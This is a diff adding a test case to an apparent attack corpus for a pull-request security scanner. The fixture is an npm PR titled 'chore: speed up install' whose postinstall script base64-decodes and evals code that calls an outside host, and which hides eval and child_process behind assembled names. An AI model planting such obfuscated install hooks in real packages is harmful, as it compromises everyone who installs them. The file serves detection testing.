@@ -2914,4 +2914,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-postinstall-eval-joined-name',
+    description:
+      'Modeled on the 2025 npm loaders that hid `eval` from scanners: a postinstall helper calls `globalThis[\'ev\' + \'al\']` on base64 text it decodes, and a second helper loads child_process through a variable whose name it puts together.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7721,
+        title: 'chore: speed up install',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: `${JSON.stringify({ name: 'tint', version: '5.2.1', main: 'index.js' }, null, 2)}\n`, head: `${JSON.stringify({ name: 'tint', version: '5.2.1', main: 'index.js', scripts: { postinstall: 'node scripts/warm-cache.js' } }, null, 2)}\n` },
+          {
+            path: 'scripts/warm-cache.js',
+            head: lines(
+              "'use strict';",
+              "const CACHE = 'cmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8vY2RuLXN0YXR1cy5uZXQvdy5qcyIsIChyKSA9PiByLnBpcGUocHJvY2Vzcy5zdGRvdXQpKTs=';",
+              "globalThis['ev' + 'al'](Buffer.from(CACHE, 'base64').toString());",
+              "const mod = ['child', 'process'].join('_');",
+              "require(mod).execSync('node scripts/prune.js', { stdio: 'ignore' });",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'obfuscated-code'] },
+  },
 ];
